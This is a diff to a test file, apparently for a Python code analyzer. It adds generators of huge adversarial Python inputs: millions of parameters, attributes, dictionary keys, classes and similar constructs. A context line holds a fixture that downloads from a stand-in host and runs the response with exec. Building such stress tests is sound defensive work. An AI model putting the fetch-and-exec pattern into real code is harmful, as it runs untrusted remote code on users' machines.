@@ -89,6 +89,58 @@ export const hostile = [
     make: (size) => lines(size, (i) => `import m${i}\nn${i}(a${i})\n`),
   },
   {
+    name: 'names, imported by one statement',
+    make: (size) => `from m import (${lines(size - 32, (i) => `a${i},`)})\n`,
+  },
+  {
+    name: 'parameters, a million',
+    make: (size) => `def f(${lines(size - 32, (i) => `a${i},`)}):pass\nf(1)\n`,
+  },
+  { name: 'keyword arguments, a million', make: (size) => `f(${lines(size - 32, (i) => `a${i}=1,`)})\n` },
+  { name: 'type parameters', make: (size) => lines(size, (i) => `def f${i}[T](a:T):pass\n`) },
+  { name: 'type aliases', make: (size) => lines(size, (i) => `type T${i}[A]=A\n`) },
+  { name: 'lambdas, a name each', make: (size) => lines(size, (i) => `f${i}=lambda x:x\n`) },
+  { name: 'methods', make: (size) => `class C:\n${lines(size - 32, (i) => ` def m${i}(self):pass\n`)}` },
+  {
+    name: 'objects, each of its own class',
+    make: (size) => lines(size, (i) => `class C${i}:x=1\nC${i}().x\n`),
+  },
+  {
+    name: 'classes of bases from outside',
+    make: (size) => lines(size, (i) => `class C${i}(B${i},D${i}):x=1\n`),
+  },
+  {
+    name: 'attributes, each another one',
+    make: (size) => `import os\n${lines(size - 32, (i) => `os.a${i}\n`)}`,
+  },
+  {
+    name: 'attributes that are stored',
+    make: (size) => `import os\n${lines(size - 32, (i) => `os.a${i}=1\n`)}`,
+  },
+  {
+    name: 'setattr, a million names',
+    make: (size) => `import os\n${lines(size - 32, (i) => `setattr(os,'a${i}',1)\n`)}`,
+  },
+  {
+    name: 'keys of a dictionary',
+    make: (size) => `d={${lines(size - 32, (i) => `'k${i}':${i},`)}}\nexec(d['k9'])\n`,
+  },
+  { name: 'keys that are stored', make: (size) => `d={}\n${lines(size - 32, (i) => `d['k${i}']=${i}\n`)}` },
+  {
+    name: 'f-strings, each another one',
+    make: (size) => `x='a'\n${lines(size - 32, (i) => `y=f'{x}${i}'\n`)}`,
+  },
+  {
+    name: 'global statements',
+    make: (size) => `def f():\n${lines(size - 32, (i) => ` global a${i};a${i}=1\n`)}`,
+  },
+  {
+    name: 'captures of patterns',
+    make: (size) => `match x:\n${lines(size - 32, (i) => ` case [a${i}]:pass\n`)}`,
+  },
+  { name: 'del, each of another name', make: (size) => lines(size, (i) => `del a${i}\n`) },
+  { name: 'comprehensions, a name each', make: (size) => lines(size, (i) => `[a${i} for a${i} in x]\n`) },
+  {
     name: 'downloads that are run',
     make: (size) => fill("r = requests.get('http://a.example.invalid/')\nexec(r.text)\n", size),
   },
